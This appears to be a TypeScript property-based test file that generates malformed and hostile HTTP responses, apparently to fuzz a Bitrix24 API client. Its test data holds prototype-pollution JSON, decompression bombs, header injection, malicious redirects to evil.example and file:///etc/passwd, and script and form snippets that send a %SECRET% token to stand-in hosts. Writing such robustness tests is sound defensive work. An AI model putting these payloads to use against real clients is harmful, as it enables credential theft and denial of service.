import fc from 'fast-check'

/**
 * Answers no honest host would send. A text may hold `%SECRET%` and `%PATH%`: the host puts in what the request itself
 * carried. `@raw:` marks JSON that no serialiser would write, `@deep:` a hundred thousand levels of it, `@twice:` a key that
 * stands beside another of the same name.
 */
export interface HostileAnswer {
  readonly status: string
  readonly body: HostileBody
  readonly encoding: (typeof encodings)[number]
  readonly headers: readonly string[]
  readonly framing: (typeof framings)[number]
  readonly packing: (typeof packings)[number]
  /** Interim answers before this one. */
  readonly before: readonly string[]
  /** What follows it: nothing, or a second answer nobody asked for. */
  readonly behind: '' | 'garbage' | 'answer'
  readonly end: 'keep' | 'close' | 'reset' | 'hold' | 'drip'
}
export type HostileBody =
  /** What an honest host would say, with these changes. Without any it is honest. */
  | { readonly kind: 'changed'; readonly changes: readonly Change[] }
  | { readonly kind: 'json'; readonly value: unknown }
  | { readonly kind: 'text'; readonly text: string }
export interface Change {
  /** Which node of the tree, counted from its beginning and around. */
  readonly at: number
  readonly how: 'replace' | 'remove' | 'wrap' | 'add' | 'twice' | 'manifold'
  readonly key: string
  readonly value: unknown
}

export const encodings = ['utf8', 'utf8 with a mark', 'utf16le', 'utf16le without a mark', 'utf16be', 'utf16be without a mark', 'windows-1251', 'broken utf8', 'with a zero before it', 'with zeros in it'] as const
export const framings = ['length', 'close', 'chunked', 'chunks of garbage', 'a chunk without end', 'too short', 'too long', 'negative', 'two lengths', 'a word', 'huge', 'both', 'no head', 'half a head'] as const
export const packings = ['none', 'gzip', 'brotli', 'deflate', 'zstd', 'a name for plain', 'half of it', 'spoilt', 'twice', 'bomb', 'bomb that just fits', 'nobody knows'] as const

/** As an honest host does it. */
const plainly = { status: '200 OK', encoding: 'utf8', headers: ['Content-Type: application/json; charset=utf-8'], framing: 'length', packing: 'none', before: [], behind: '', end: 'keep' } as const
export const honest: HostileAnswer = { ...plainly, body: { kind: 'changed', changes: [] } }

/** Mostly the first, at times one of the others. */
function mostly<T>(usual: T, others: readonly T[], weight = 12): fc.Arbitrary<T> {
  return fc.oneof({ weight, arbitrary: fc.constant(usual) }, { weight: 4, arbitrary: fc.constantFrom(...others) })
}

const keys = fc.constantFrom('__proto__', 'constructor', 'toString', 'hasOwnProperty', 'prototype', 'result', 'error', 'error_description', 'argument', 'total', 'next', 'time', 'ID', 'id', 'EMAIL', 'c0', '0', '', '%SECRET%', 'length', 'then')
const numbers = fc.oneof(
  fc.constantFrom<unknown>(0, -1, 1e308, 2 ** 53, -(2 ** 63), 0.1, 1e21, '@raw:-0', '@raw:1e999', '@raw:-1e999', '@raw:123456789012345678901234567890', '@raw:1E400', '@raw:NaN', '@raw:Infinity', '@raw:01', '@raw:0x1F', '@raw:+1'),
  fc.double().map((value) => (Number.isFinite(value) ? value : 0)),
  fc.bigInt().map((value) => `@raw:${value}`),
)
const texts = fc.oneof(
  fc.constantFrom<unknown>('', ' ', '-1', 'NaN', 'Infinity', '1e5', '0x10', '000000000000000000001', '99999999999999999999', '١٢٣', '27', 'Y', 'true', 'null', '<br>', '%SECRET%', 'x%SECRET%y', '%PATH%', 'javascript:alert(1)', '__proto__'),
  fc.constantFrom<unknown>('@raw:"\\ud800"', '@raw:"\\udfff\\ud800"', '@raw:"\\u0000"', '@raw:"\\x41"', '@raw:"unended', '\u202Efdp.exe', '\u0000\u0007', 'a\r\nb', '9999-99-99T99:99:99+99:99', '2026-02-30T25:61:61+00:00', '1600-01-01', 'cleo.marsh@harbourpine.example\u0000'),
  // Half a letter: by itself, or where a long text is cut
  fc.constantFrom<unknown>('@raw:"\\ud800"', '@raw:"Cleo \\udfff"', `x${'\u{1F600}'.repeat(500)}`),
  fc.constantFrom<unknown>('a'.repeat(70_000), '9'.repeat(400), '\u{1F600}'.repeat(500)),
  fc.string({ unit: 'binary', maxLength: 20 }),
)
const trees = fc.oneof(
  fc.constantFrom<unknown>(null, true, false, {}, [], [[]], [null], [{}], { length: 1e9 }, { 0: 'a', 1: 'b' }, { then: 'x' }, { toString: 1, valueOf: 2 }, Array.from({ length: 6000 }, () => null)),
  fc.constantFrom<unknown>('@raw:{"__proto__":{"polluted":true}}', '@raw:{"constructor":{"prototype":{"polluted":true}}}', '@raw:{"a":1,"a":{"__proto__":null}}', '@raw:[1,]', '@raw:{a:1}', '@raw:undefined', '@raw:', '@deep:[', '@deep:{"a":', '@deep:[{"result":'),
  fc.jsonValue({ maxDepth: 3 }),
)
const anything = fc.oneof(numbers, texts, trees)

const change: fc.Arbitrary<Change> = fc.record({ at: fc.nat({ max: 400 }), how: fc.constantFrom('replace', 'replace', 'replace', 'remove', 'wrap', 'add', 'twice', 'manifold'), key: keys, value: anything })

/** Codes that mean something to somebody (bitrix24.md §1.4, §2), and some that mean nothing. */
const codes = fc
  .tuple(
    fc.constantFrom(
      'INTERNAL_SERVER_ERROR', 'ERROR_UNEXPECTED_ANSWER', 'QUERY_LIMIT_EXCEEDED', 'OPERATION_TIME_LIMIT', 'OVERLOAD_LIMIT', 'ERROR_BATCH_METHOD_NOT_ALLOWED', 'NO_AUTH_FOUND', 'INVALID_REQUEST', 'ACCESS_DENIED', 'INVALID_CREDENTIALS',
      'insufficient_scope', 'expired_token', 'invalid_token', 'user_access_error', 'PORTAL_DELETED', 'ERROR_METHOD_NOT_FOUND', 'authorization_error', 'PAYMENT_REQUIRED', 'METHOD_CONFIRM_WAITING', 'WRONG_ENCODING', 'ERROR_CORE', 'ERROR_ARGUMENT',
      'ERROR_NOT_FOUND', '100', '0', '', 'USER_NOT_EXISTS', 'BITRIX_REST_V3_EXCEPTION_ACCESSDENIEDEXCEPTION', 'INTRANET_CONTROLLER_INVITE_FAILED', 'invalid_grant', 'invalid_client', 'bad_verification_code', 'not_found', '__proto__', 'constructor', '%SECRET%',
    ),
    fc.constantFrom((code: string) => code, (code: string) => code.toUpperCase(), (code: string) => code.toLowerCase(), (code: string) => ` ${code}\n`),
  )
  .map(([code, spelled]) => spelled(code))
const descriptions = fc.oneof(fc.constantFrom<unknown>('wrong_email', 'user_count_exceeded', 'access_denied<br>', 'Запрос не выполнен.<br>\nEs gibt schon jemanden.<br>', 'on commercial plans', '%SECRET%', '%PATH%', '<'.repeat(9000)), anything)
const refusal: fc.Arbitrary<HostileBody> = fc
  .record({ code: fc.oneof({ weight: 6, arbitrary: codes }, anything), description: descriptions, place: fc.constantFrom('body', 'body', 'result', 'both', 'v3', 'list'), argument: anything })
  .map(({ code, description, place, argument }) => {
    const classic = { error: code, error_description: description, argument }
    const value = {
      body: classic,
      result: { result: classic, time: argument },
      both: { ...classic, result: true },
      v3: { error: { code, message: description, validation: [{ field: argument, message: description }] } },
      list: { result: { result: argument, result_error: { c0: classic, c1: description, 0: classic }, result_total: argument } },
    }[place]
    return { kind: 'json', value }
  })

const pages = fc.constantFrom(
  '<!DOCTYPE html><title>Maintenance</title>', '<html><form action="http://login.hotspot.example/%SECRET%"><input type="password"></form>', '<meta http-equiv="refresh" content="0;url=http://login.hotspot.example/%PATH%">',
  '<?xml version="1.0"?><error>%SECRET%</error>', '<', '<form'.repeat(20_000), `<script>location="https://evil.example/?%SECRET%"</script>`, '\n \t<center><h1>502 Bad Gateway</h1></center>', '<meta http-equiv=refresh content="0;url=http://[">', '<form action="//%SECRET%.example"><input type=password>',
)
const words = fc.oneof(fc.constantFrom('', ' ', '{', '}', '{}', '[]', 'null', 'true', '"%SECRET%"', '{"result"', '{"result":}', 'Bad Gateway', '%PATH%', '{"result":true}{"result":false}', '{"result":true} trailing', '/*x*/{"result":true}', "{'result':true}", '{"result":tru', ')]}\',{"result":true}', '%SECRET%'), fc.string({ unit: 'binary', maxLength: 200 }))

const bodies: fc.Arbitrary<HostileBody> = fc.oneof(
  { weight: 8, arbitrary: fc.array(change, { minLength: 1, maxLength: 4 }).map((changes): HostileBody => ({ kind: 'changed', changes })) },
  { weight: 5, arbitrary: refusal },
  { weight: 1, arbitrary: anything.map((value): HostileBody => ({ kind: 'json', value: { result: value } })) },
  { weight: 1, arbitrary: fc.oneof(anything, trees).map((value): HostileBody => ({ kind: 'json', value })) },
  { weight: 1, arbitrary: pages.map((text): HostileBody => ({ kind: 'text', text })) },
  { weight: 1, arbitrary: words.map((text): HostileBody => ({ kind: 'text', text })) },
)

const statuses = [
  ...[100, 102, 103, 201, 202, 203, 204, 205, 206, 299, 300, 301, 302, 303, 304, 305, 307, 308, 399, 400, 401, 402, 403, 404, 405, 407, 408, 409, 410, 413, 414, 418, 422, 429, 431, 451, 499, 500, 501, 502, 503, 504, 507, 511, 520, 599, 600, 700, 999].map((code) => `${code} x`),
  '200 %SECRET%', '503 %PATH%', '200', '20 OK', '2000 OK', '000 x', 'OK 200', '-200 x', '200 \u00ff\u0080',
]
const locations = [
  'javascript:alert("%SECRET%")', 'data:text/html,%SECRET%', 'file:///etc/passwd', '/rest/1/%SECRET%/', '//evil.example%PATH%', '', ' ', '?x', 'http://%HOST%%PATH%', 'https://%HOST%%PATH%', 'http://%SECRET%.example/', 'https://%SECRET%/', 'https://a:%SECRET%@evil.example/',
  'https://evil.example%PATH%', 'https://newname.bitrix24.example%PATH%', 'http://login.hotspot.example/', 'http://[::1]:1/', 'http://[', 'https://xn--/', 'ftp://evil.example/', 'https://auth2.bitrix24.net/%SECRET%', 'https://evil.example\\@127.0.0.1/', `https://evil.example/${'a'.repeat(5000)}`, 'https://q1%771e.example/', 'blob:https://evil.example/x',
].map((location) => `Location: ${location}`)
const headers = fc.array(
  fc.constantFrom(
    ...locations, 'Content-Type: text/html; charset=%SECRET%', 'Content-Type: application/json; charset=utf-16', 'Content-Type: text/plain; charset=windows-1251', 'Content-Type: application/json; charset=__proto__', 'Content-Type: image/png', 'Content-Type:', 'Content-Type: \u00ff\u0080',
    'X-Odd: \u0080\u00ff\u00fe', 'X-Zero: a\u0000b', 'X Bad: y', ': empty', '__proto__: polluted', 'constructor: polluted', 'toString: x', 'Set-Cookie: a=%SECRET%; Path=/; Domain=evil.example', 'Set-Cookie: b=%PATH%', `X-Long: ${'a'.repeat(12_000)}`, `X-Longer: ${'b'.repeat(20_000)}`, 'X-Folded: a\r\n b', 'X-Bare: a\rb', 'X-Feed: a\nEvil: b',
    'Date: %SECRET%', 'Date: Wed, 14 Oct 2026 10:42:07 GMT', 'Date: Wed, 99 Abc 9999 99:99:99 GMT', 'Retry-After: 99999999999', 'WWW-Authenticate: Basic realm="%SECRET%"', 'Proxy-Authenticate: Basic', 'Connection: Upgrade', 'Upgrade: websocket', 'Trailer: X', 'Refresh: 0;url=javascript:1', 'Content-Location: %PATH%', 'Keep-Alive: timeout=99999999', 'Keep-Alive: timeout=-1', 'Content-Range: bytes 0-1/2',
  ),
  { maxLength: 3 },
)

/** One answer, none of which is kept open longer than it takes to send it. */
export const hostileAnswer: fc.Arbitrary<HostileAnswer> = fc
  .record({
    status: mostly('200 OK', statuses),
    body: bodies,
    encoding: mostly<HostileAnswer['encoding']>('utf8', encodings, 16),
    headers: fc.oneof({ weight: 3, arbitrary: fc.constant(plainly.headers) }, { weight: 2, arbitrary: headers }),
    framing: mostly<HostileAnswer['framing']>('length', framings, 20),
    // Bombs take their time: now and then is enough
    packing: fc.oneof({ weight: 60, arbitrary: fc.constant('none' as const) }, { weight: 12, arbitrary: fc.constantFrom('gzip', 'brotli', 'deflate', 'zstd', 'a name for plain', 'half of it', 'spoilt', 'twice', 'nobody knows') }, { weight: 1, arbitrary: fc.constantFrom('bomb', 'bomb that just fits') }),
    before: fc.oneof({ weight: 12, arbitrary: fc.constant([]) }, { weight: 1, arbitrary: fc.array(fc.constantFrom('HTTP/1.1 100 Continue\r\n\r\n', 'HTTP/1.1 103 Early Hints\r\nLink: <%SECRET%>\r\n\r\n', 'HTTP/1.1 102 Processing\r\n\r\n'), { minLength: 1, maxLength: 5 }) }),
    behind: mostly<HostileAnswer['behind']>('', ['garbage', 'answer'], 30),
    end: fc.constantFrom('keep', 'keep', 'keep', 'keep', 'close', 'reset'),
  })

/** The same, and the host never comes to its end. */
export const dawdlingAnswer: fc.Arbitrary<HostileAnswer> = fc
  .record({
    status: fc.constantFrom('200 OK', '101 Switching Protocols', '204 x', '302 x', '503 x', '100 x'),
    headers: fc.oneof(fc.constant(plainly.headers), headers),
    framing: fc.constantFrom('too long', 'a chunk without end', 'huge', 'close', 'half a head', 'no head'),
    packing: fc.constantFrom('none', 'gzip'),
    end: fc.constantFrom('hold', 'drip'),
  })
  .map((parts) => ({ ...honest, ...parts }))
